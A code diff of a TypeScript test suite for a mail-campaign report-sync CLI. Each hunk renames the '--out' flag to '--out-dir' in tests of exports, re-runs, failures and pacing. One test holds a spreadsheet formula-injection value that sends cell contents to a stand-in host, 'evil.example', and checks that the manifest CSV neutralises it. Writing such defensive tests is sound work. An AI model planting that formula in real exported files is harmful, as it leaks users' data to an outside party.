@@ -38,7 +38,7 @@ describe('report sync: first run, then a re-run with nothing new', () => {
 
   beforeAll(async () => {
     mark = sb.get().sandbox.requests().length;
-    first = await sync(['--out', dir, '--json']);
+    first = await sync(['--out-dir', dir, '--json']);
   }, 30_000);
 
   it('exports each finished campaign once and downloads its six files (no API key to the file host)', async () => {
@@ -91,7 +91,7 @@ describe('report sync: first run, then a re-run with nothing new', () => {
   it('a re-run with nothing new makes no export request and downloads nothing', async () => {
     const before = fs.readFileSync(path.join(dir, 'manifest.csv'), 'utf8');
     const m = sb.get().sandbox.requests().length;
-    const r = await sync(['--out', dir]);
+    const r = await sync(['--out-dir', dir]);
     expect(r.exitCode, r.stderr).toBe(0);
     const t = syncTraffic(sb.get, m);
     expect(t.exports).toEqual([]);
@@ -106,7 +106,7 @@ describe('report sync: first run, then a re-run with nothing new', () => {
 
   it('the next range starts at the last run less a 2-day margin', async () => {
     const m = sb.get().sandbox.requests().length;
-    expect((await sync(['--out', dir])).exitCode).toBe(0);
+    expect((await sync(['--out-dir', dir])).exitCode).toBe(0);
     const q = syncTraffic(sb.get, m).all.find((r) => r.path === '/v1/report/campaigns')!.query;
     const span = Date.parse(q.endDate) - Date.parse(q.startDate);
     expect(span).toBeGreaterThan(2 * DAY - 60_000);
@@ -118,7 +118,7 @@ describe('report sync: first run, then a re-run with nothing new', () => {
     const good = fs.readFileSync(file, 'utf8');
     fs.writeFileSync(file, good.replace(/@/g, '#'));
     const m = sb.get().sandbox.requests().length;
-    const r = await sync(['--out', dir]);
+    const r = await sync(['--out-dir', dir]);
     expect(r.exitCode, r.stderr).toBe(0);
     const t = syncTraffic(sb.get, m);
     expect(t.exports).toEqual([]); // exported less than an hour ago: the service would ignore it
@@ -132,7 +132,7 @@ describe('report sync: first run, then a re-run with nothing new', () => {
   it('-v lists each file downloaded in this run on stdout', async () => {
     const file = path.join(folderOf(sb.get, dir, sns[2]), 'click.csv');
     fs.appendFileSync(file, 'x');
-    const r = await sync(['--out', dir, '-v']);
+    const r = await sync(['--out-dir', dir, '-v']);
     expect(r.exitCode, r.stderr).toBe(0);
     expect(r.stdout).toBe(`${file}\n`);
   });
@@ -140,7 +140,7 @@ describe('report sync: first run, then a re-run with nothing new', () => {
   it('--refresh-days re-exports recent campaigns, but never one exported less than an hour ago (said on stderr)', async () => {
     const later = { now: () => Date.now() + 2 * 3_600_000, sleep: systemClock.sleep };
     let m = sb.get().sandbox.requests().length;
-    const r = await sync(['--out', dir, '--refresh-days', '1', '--json'], { clock: later });
+    const r = await sync(['--out-dir', dir, '--refresh-days', '1', '--json'], { clock: later });
     expect(r.exitCode, r.stderr).toBe(0);
     expect(syncTraffic(sb.get, m).exports).toHaveLength(3);
     // The sandbox has no new data: the same files (same createdDate) are not downloaded again.
@@ -148,7 +148,7 @@ describe('report sync: first run, then a re-run with nothing new', () => {
     expect(JSON.parse(r.stdout).campaigns.unchanged).toBe(3);
 
     m = sb.get().sandbox.requests().length;
-    const again = await sync(['--out', dir, '--refresh-days', '1'], { clock: later });
+    const again = await sync(['--out-dir', dir, '--refresh-days', '1'], { clock: later });
     expect(again.exitCode).toBe(0);
     expect(syncTraffic(sb.get, m).exports).toEqual([]);
     // Without a terminal (cron's log): one line, counting them and saying when the first can be refreshed.
@@ -157,7 +157,7 @@ describe('report sync: first run, then a re-run with nothing new', () => {
     expect(again.stderr.trim().split('\n')).toEqual([expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ report sync /)]);
     expect(again.stderr).toContain(`3 refresh deferred (the service takes one export of a campaign an hour; a run after ${first} refreshes the first)`);
     // On a terminal, a line for each.
-    const shown = await sync(['--out', dir, '--refresh-days', '1'], { clock: later, tty: true });
+    const shown = await sync(['--out-dir', dir, '--refresh-days', '1'], { clock: later, tty: true });
     for (const sn of sns) expect(shown.stderr).toContain(`${sn}: not re-exported yet — the service ignores a repeat export of a campaign within an hour`);
   });
 });
@@ -165,7 +165,7 @@ describe('report sync: first run, then a re-run with nothing new', () => {
 describe('report sync: on a terminal', () => {
   it('shows a progress display on stderr, then the summary; each file downloaded on stdout', async () => {
     const out = tempDir('mailctl-sync-tty-');
-    const r = await sync(['--out', out], { tty: true });
+    const r = await sync(['--out-dir', out], { tty: true });
     expect(r.exitCode, r.stderr).toBe(0);
     expect(r.stderr).toContain('Listing the campaigns finished');
     expect(r.stderr).toContain('3 campaigns downloaded (18 files');
@@ -177,7 +177,7 @@ describe('report sync: failures', () => {
   it('a campaign the service refuses: exit 5, listed; the next run completes only that one', async () => {
     const out = tempDir('mailctl-sync-fail-');
     sb.get().sandbox.injectFault({ kind: 'status', status: 403, body: { code: '40303', message: 'bad operation with invalid user state' }, match: { method: 'POST', path: `/v1/report/${sns[1]}/export` } });
-    const r = await sync(['--out', out, '--json']);
+    const r = await sync(['--out-dir', out, '--json']);
     expect(r.exitCode).toBe(5);
     const json = JSON.parse(r.stdout);
     expect(json.campaigns.failed).toEqual([expect.objectContaining({ sn: sns[1], code: 'REFUSED' })]);
@@ -187,7 +187,7 @@ describe('report sync: failures', () => {
     expect(fs.existsSync(folderOf(sb.get, out, sns[0]))).toBe(true);
 
     const m = sb.get().sandbox.requests().length;
-    const again = await sync(['--out', out]);
+    const again = await sync(['--out-dir', out]);
     expect(again.exitCode, again.stderr).toBe(0);
     const t = syncTraffic(sb.get, m);
     expect(t.exports.map((x) => x.path)).toEqual([`/v1/report/${sns[1]}/export`]);
@@ -206,26 +206,26 @@ describe('report sync: failures', () => {
     };
     const out = withGone();
     const m = sb.get().sandbox.requests().length;
-    const r = await sync(['--out', out, '--since', '1h']);
+    const r = await sync(['--out-dir', out, '--since', '1h']);
     expect(r.exitCode, r.stderr).toBe(0);
     expect(syncTraffic(sb.get, m).exports.map((x) => x.path)).toContain('/v1/report/CPGONE01/export');
     // Cron's log: the one summary line counts it.
     expect(r.stderr.trim().split('\n')).toEqual([expect.stringContaining('1 no longer known at the service (deleted?), not tried again')]);
     const again = sb.get().sandbox.requests().length;
-    expect((await sync(['--out', out, '--since', '1h'])).exitCode).toBe(0);
+    expect((await sync(['--out-dir', out, '--since', '1h'])).exitCode).toBe(0);
     expect(syncTraffic(sb.get, again).exports).toEqual([]);
     // --json names it; on a terminal a line says so.
-    const json = await sync(['--out', withGone(), '--since', '1h', '--json']);
+    const json = await sync(['--out-dir', withGone(), '--since', '1h', '--json']);
     expect(JSON.parse(json.stdout).campaigns.gone).toEqual(['CPGONE01']);
     expect(json.stderr).toBe('');
-    const tty = await sync(['--out', withGone(), '--since', '1h'], { tty: true });
+    const tty = await sync(['--out-dir', withGone(), '--since', '1h'], { tty: true });
     expect(tty.stderr).toContain('CPGONE01: the service no longer knows this campaign');
   });
 
   it('every campaign refused by the service: exit 1, each listed', async () => {
     const out = tempDir('mailctl-sync-refused-');
     sb.get().sandbox.injectFault({ kind: 'status', status: 403, times: 100, body: { code: '40303', message: 'bad operation with invalid user state' }, match: { method: 'POST', path: /\/export$/ } });
-    const r = await sync(['--out', out, '--json']);
+    const r = await sync(['--out-dir', out, '--json']);
     sb.get().sandbox.faults.splice(0);
     expect(r.exitCode).toBe(1);
     const json = JSON.parse(r.stdout);
@@ -238,7 +238,7 @@ describe('report sync: failures', () => {
   it('every campaign unreachable: exit 4 (network), nothing half-written', async () => {
     const out = tempDir('mailctl-sync-net-');
     sb.get().sandbox.injectFault({ kind: 'drop', times: 100, match: { method: 'POST', path: /\/export$/ } });
-    const r = await sync(['--out', out]);
+    const r = await sync(['--out-dir', out]);
     sb.get().sandbox.faults.splice(0);
     expect(r.exitCode).toBe(4);
     expect(r.stderr).toContain('3 failed');
@@ -248,7 +248,7 @@ describe('report sync: failures', () => {
   it('the listing unreachable: exit 4, its error lines dated and naming the run like the summary line', async () => {
     const out = tempDir('mailctl-sync-down-');
     sb.get().sandbox.injectFault({ kind: 'drop', times: 100, match: { method: 'GET', path: '/v1/report/campaigns' } });
-    const r = await sync(['--out', out]);
+    const r = await sync(['--out-dir', out]);
     sb.get().sandbox.faults.splice(0);
     expect(r.exitCode).toBe(4);
     const lines = r.stderr.trim().split('\n');
@@ -260,14 +260,14 @@ describe('report sync: failures', () => {
     const out = path.join(tempDir(), 'never');
     const m = sb.get().sandbox.requests().length;
     for (const args of [['--since', '7d', '--from', '2026-01-01', '--to', '2026-01-31'], ['--refresh-days', 'soon'], ['--to', '2026-01-01'], ['--since', 'a while'], ['--wait-lock', 'later']]) {
-      const r = await sync(['--out', out, ...args]);
+      const r = await sync(['--out-dir', out, ...args]);
       expect(r.exitCode, args.join(' ')).toBe(2);
       expect(r.stderr).not.toContain('unexpected');
     }
     expect(fs.existsSync(out)).toBe(false);
     const file = path.join(tempDir(), 'f');
     fs.writeFileSync(file, '');
-    expect((await sync(['--out', file])).stderr).toContain('is a file, not a directory');
+    expect((await sync(['--out-dir', file])).stderr).toContain('is a file, not a directory');
     expect(sb.get().sandbox.requests().length).toBe(m);
   });
 });
@@ -281,7 +281,7 @@ describe('report sync: pacing, in virtual time', () => {
     const v = virtualTime();
     const out = tempDir('mailctl-sync-pace-');
     const paced = { clock: v.clock, fetch: v.fetch, tuning: { rateLimit: true } };
-    const first = await sync(['--out', out, '--json'], paced);
+    const first = await sync(['--out-dir', out, '--json'], paced);
     expect(first.exitCode, first.stderr).toBe(0);
     const exports = v.sent.filter(isExport).map((r) => r.at);
     expect(exports.length).toBeGreaterThanOrEqual(3);
@@ -304,7 +304,7 @@ describe('report sync: pacing, in virtual time', () => {
     state.lastExportAt = new Date(lastExport).toISOString();
     fs.writeFileSync(path.join(out, '.mailctl-sync.json'), JSON.stringify(state));
     const mark = { sent: v.sent.length, slept: v.slept.length };
-    const second = await sync(['--out', out, '--json'], paced);
+    const second = await sync(['--out-dir', out, '--json'], paced);
     expect(second.exitCode, second.stderr).toBe(0);
     const next = v.sent.slice(mark.sent).filter(isExport);
     expect(next.map((r) => r.path)).toEqual([expect.stringMatching(new RegExp(`/v1/report/${sn}/export$`))]);
@@ -321,7 +321,7 @@ describe('report sync: the directory', () => {
     const left = ['..mailctl-sync.json.0123456789ab.part', '.manifest.csv.abcdef012345.part', '.mailctl-sync.lock.00112233aabb.stale'];
     const mine = ['.notes.txt.0123456789ab.part', 'manifest.csv.0123456789ab.part', 'keep.part'];
     for (const f of [...left, ...mine]) fs.writeFileSync(path.join(out, f), 'x');
-    const r = await sync(['--out', out]);
+    const r = await sync(['--out-dir', out]);
     expect(r.exitCode, r.stderr).toBe(0);
     const now = fs.readdirSync(out);
     for (const f of left) expect(now).not.toContain(f);
@@ -332,7 +332,7 @@ describe('report sync: the directory', () => {
     const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")';
     const [sn] = await finishedCampaigns(sb.get, 1, 3, [evil]);
     const out = tempDir('mailctl-sync-csv-');
-    const r = await sync(['--out', out, '--json']);
+    const r = await sync(['--out-dir', out, '--json']);
     expect(r.exitCode, r.stderr).toBe(0);
     const rows = parse(fs.readFileSync(path.join(out, 'manifest.csv'), 'utf8'), { columns: true }) as Array<Record<string, string>>;
     const mine = rows.filter((x) => x.campaign_code === sn);
@@ -348,7 +348,7 @@ describe('report sync: the directory', () => {
     const m = sb.get().sandbox.requests().length;
     // The first four downloads get no answer until the client's stall guard (1 s) gives up on them.
     sb.get().sandbox.injectFault({ kind: 'hang', times: DOWNLOADS_AT_ONCE, match: { service: 'files', method: 'GET' } });
-    await sync(['--out', out], { tuning: { timeoutMs: 1000 } });
+    await sync(['--out-dir', out], { tuning: { timeoutMs: 1000 } });
     sb.get().sandbox.faults.splice(0);
     const downloads = syncTraffic(sb.get, m).downloads;
     const hung = downloads.slice(0, DOWNLOADS_AT_ONCE);
